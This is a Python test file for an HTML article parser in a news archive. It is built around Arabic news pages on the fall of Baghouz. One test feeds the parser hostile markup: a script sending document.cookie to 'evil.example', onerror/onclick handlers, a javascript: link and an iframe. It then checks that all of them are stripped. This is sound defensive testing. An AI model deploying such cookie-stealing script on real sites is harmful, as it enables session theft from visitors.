"""Saved HTML pages: the article is found, the page furniture is not, nothing executable survives."""

from datetime import date

import pytest

from archive.ingest.decode import decode
from archive.ingest.html import parse_html, sniff_charset
from archive.ingest.plaintext import NoArticleError

P1 = (
    "أعلنت قوات سوريا الديمقراطية، السبت، السيطرة الكاملة على بلدة الباغوز، آخر جيب لتنظيم "
    "داعش في شرق سوريا، بعد معارك استمرت عدة أسابيع وأدت إلى خروج آلاف المدنيين من البلدة."
)
P2 = (
    "وقال المتحدث باسم القوات في بيان نشره على حسابه إن العمليات العسكرية انتهت، وإن فرق "
    "الهندسة تعمل على تفكيك الألغام التي زرعها التنظيم في المنطقة قبل انسحابه منها."
)
P3 = (
    "ويرى محللون أن نهاية السيطرة الجغرافية للتنظيم لا تعني نهاية خطره، إذ لا تزال خلايا نائمة "
    "تنشط في البادية السورية وفي مناطق عدة من العراق المجاور، وتشن هجمات متفرقة."
)
P4 = (
    "وأشار التقرير إلى أن عشرات الآلاف من النازحين يعيشون في مخيم الهول في ظروف صعبة، وسط نقص "
    "حاد في المساعدات الإنسانية والرعاية الطبية."
)
TITLE = "قوات سوريا الديمقراطية تعلن السيطرة على الباغوز"
STANDFIRST = "آخر جيب للتنظيم في شرق سوريا يسقط بعد معارك استمرت أسابيع وخروج آلاف المدنيين."


def page(
    *,
    head_extra="",
    meta_date='<meta property="article:published_time" content="2019-03-23T10:15:00+03:00">',
    description=STANDFIRST,
    figure='<figure><img src="a.jpg"><figcaption>مقاتلون من قسد في الباغوز (أ.ف.ب)</figcaption></figure>',
    byline='<p class="byline">بقلم سامر الحلبي</p>',
    body=f"<p>{P1}</p><p>{P2}</p><h2>ماذا بعد الباغوز؟</h2><p>{P3}</p><p>{P4}</p>",
    charset="utf-8",
    canonical="https://news.example.org/syria/2019/03/23/baghouz",
):
    return f"""<!DOCTYPE html>
<html lang="ar" dir="rtl"><head><meta charset="{charset}">
<title>{TITLE} | شبكة الأخبار</title>
<meta property="og:title" content="{TITLE}">
<meta property="og:site_name" content="شبكة الأخبار">
<meta property="og:description" content="{description}">
{meta_date}
<meta property="article:section" content="سوريا">
<meta property="article:tag" content="داعش"><meta property="article:tag" content="الباغوز">
<meta name="author" content="سامر الحلبي">
<link rel="canonical" href="{canonical}">
{head_extra}
</head><body>
<div id="cookie-banner" class="cookie-consent">نستخدم ملفات تعريف الارتباط لتحسين تجربتك على موقعنا.
<button>موافق</button></div>
<header><nav><ul><li><a href="/">الرئيسية</a></li><li><a href="/syria">سوريا</a></li>
<li><a href="/world">دوليات</a></li><li><a href="/economy">اقتصاد</a></li></ul></nav></header>
<main><article>
<h1>{TITLE}</h1>
{byline}
{figure}
{body}
</article>
<aside class="related"><h3>اقرأ أيضا</h3><ul>
<li><a href="/a">العراق يعلن انتهاء العمليات العسكرية ضد التنظيم في الأنبار</a></li>
<li><a href="/b">تركيا تهدد بعملية عسكرية جديدة شرق الفرات</a></li></ul></aside>
</main>
<footer><p>جميع الحقوق محفوظة © 2019 شبكة الأخبار</p><a href="/privacy">سياسة الخصوصية</a></footer>
</body></html>"""


def test_arabic_article_page_parses_to_its_parts():
    parsed = parse_html(page())
    assert parsed.title == TITLE  # the site name is not part of it
    assert parsed.standfirst == STANDFIRST
    assert [(c.text, c.credit) for c in parsed.captions] == [("مقاتلون من قسد في الباغوز", "أ.ف.ب")]
    assert parsed.published == date(2019, 3, 23)
    assert parsed.published_precision == "day"
    assert parsed.paragraphs == [P1, P2, P3, P4]
    assert parsed.headings == ["ماذا بعد الباغوز؟"]
    assert [b.kind for b in parsed.blocks] == [
        "paragraph",
        "paragraph",
        "heading",
        "paragraph",
        "paragraph",
    ]
    assert parsed.author == "سامر الحلبي"
    assert parsed.section == "سوريا"
    assert parsed.tags == ["داعش", "الباغوز"]
    assert parsed.language == "ar"
    assert parsed.url == "https://news.example.org/syria/2019/03/23/baghouz"
    assert parsed.warnings == []
    body = parsed.body_text
    for furniture in ("ملفات تعريف الارتباط", "الرئيسية", "اقرأ أيضا", "تركيا تهدد", "الحقوق"):
        assert furniture not in body


def test_credit_in_its_own_element_is_split_off():
    figure = (
        '<figure><img src="b.jpg"><figcaption>نازحون في مخيم الهول '
        '<span class="credit">رويترز</span></figcaption></figure>'
    )
    parsed = parse_html(page(figure=figure))
    assert [(c.text, c.credit) for c in parsed.captions] == [("نازحون في مخيم الهول", "رويترز")]


def test_caption_without_credit_is_kept_whole():
    figure = "<figure><figcaption>صورة أرشيفية للبلدة قبل المعارك</figcaption></figure>"
    parsed = parse_html(page(figure=figure))
    assert [(c.text, c.credit) for c in parsed.captions] == [
        ("صورة أرشيفية للبلدة قبل المعارك", "")
    ]


def test_description_that_only_cuts_the_first_paragraph_short_is_not_a_standfirst():
    parsed = parse_html(page(description=P1[:80] + "..."))
    assert parsed.standfirst == ""
    assert parsed.paragraphs[0] == P1


def test_standfirst_printed_as_the_first_paragraph_is_not_repeated_in_the_body():
    body = f'<p class="article-lead">{STANDFIRST}</p><p>{P1}</p><p>{P2}</p><p>{P3}</p>'
    parsed = parse_html(page(body=body, description=""))
    assert parsed.standfirst == STANDFIRST
    assert parsed.paragraphs == [P1, P2, P3]


UNDATED_URL = "https://news.example.org/syria/baghouz"


def test_date_in_the_canonical_url_counts():
    parsed = parse_html(page(meta_date="", byline=""))
    assert parsed.published == date(2019, 3, 23)


def test_visible_date_is_read_when_the_metadata_has_none():
    byline = (
        '<p class="byline">بقلم سامر الحلبي — <span class="date">23 مارس (آذار) 2019</span></p>'
    )
    parsed = parse_html(page(meta_date="", byline=byline, canonical=UNDATED_URL))
    assert parsed.published == date(2019, 3, 23)


def test_month_only_date_keeps_its_precision():
    byline = '<p class="byline"><time>آذار 2019</time></p>'
    parsed = parse_html(page(meta_date="", byline=byline, canonical=UNDATED_URL))
    assert (parsed.published, parsed.published_precision) == (date(2019, 3, 1), "month")
    assert any("month" in warning for warning in parsed.warnings)


def test_no_date_stays_unknown_and_is_flagged():
    parsed = parse_html(page(meta_date="", byline="", canonical=UNDATED_URL))
    assert parsed.published is None
    assert "No publication date" in parsed.warnings[0]


def test_hostile_markup_never_reaches_the_article():
    hostile_title = "&lt;script&gt;alert(1)&lt;/script&gt;" + TITLE
    head = (
        f'<meta property="og:title" content="{hostile_title}">'
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        "<style>body{display:none}</style>"
    )
    body = (
        f'<p onclick="steal()">{P1}</p>'
        f'<p>{P2} <a href="javascript:evil()">رابط</a></p>'
        '<img src="x" onerror="steal()">'
        "<script>alert('in body')</script>"
        '<iframe src="https://evil.example/"></iframe>'
        f"<p>{P3}</p>"
    )
    parsed = parse_html(page(head_extra=head, body=body))
    stored = " ".join(
        [parsed.title, parsed.standfirst, parsed.body_text, *(c.text for c in parsed.captions)]
    )
    for bad in ("<script", "alert(", "steal()", "javascript:", "onerror", "onclick", "iframe"):
        assert bad not in stored
    assert parsed.paragraphs[0] == P1
    assert parsed.notes == ["removed 2 scripts, 2 event handlers, 1 javascript: link"]


def test_page_without_article_text_is_refused():
    with pytest.raises(NoArticleError, match="no article text"):
        parse_html(page(body="", figure="", byline=""))
    with pytest.raises(NoArticleError, match="empty"):
        parse_html("   ")


def test_windows_1256_page_declares_its_charset():
    data = page(charset="windows-1256").encode("cp1256")
    assert sniff_charset(data) == "windows-1256"
    decoded = decode(data, sniff_charset(data))
    assert decoded.encoding == "Windows-1256"
    assert parse_html(decoded.text).title == TITLE


def test_english_page():
    html = """<html lang="en"><head><title>Coalition ministers meet in Washington - Example Wire</title>
    <meta property="og:site_name" content="Example Wire">
    <meta name="description" content="Ministers of the coalition met to discuss the territorial defeat.">
    <meta property="article:published_time" content="2019-02-06"></head>
    <body><nav><a href="/">Home</a> <a href="/world">World</a></nav><article>
    <h1>Coalition ministers meet in Washington</h1>
    <p>Foreign ministers of the 79-member coalition met in Washington on Wednesday to discuss the
    imminent territorial defeat of the group in Iraq and Syria and what comes after it.</p>
    <figure><figcaption>Ministers arrive at the State Department. REUTERS/Joshua Roberts</figcaption></figure>
    <p>The secretary of state said the group remained a dangerous threat and that the coalition
    would stay until its defeat was lasting, according to officials present at the meeting.</p>
    </article></body></html>"""
    parsed = parse_html(html)
    assert parsed.title == "Coalition ministers meet in Washington"
    assert parsed.language == "en"
    assert parsed.standfirst.startswith("Ministers of the coalition met")
    assert [(c.text, c.credit) for c in parsed.captions] == [
        ("Ministers arrive at the State Department.", "REUTERS/Joshua Roberts")
    ]
    assert len(parsed.paragraphs) == 2
    assert parsed.published == date(2019, 2, 6)


def test_a_warc_url_wins_over_the_canonical_link():
    parsed = parse_html(page(), url="https://archive.example/capture")
    assert parsed.url == "https://archive.example/capture"
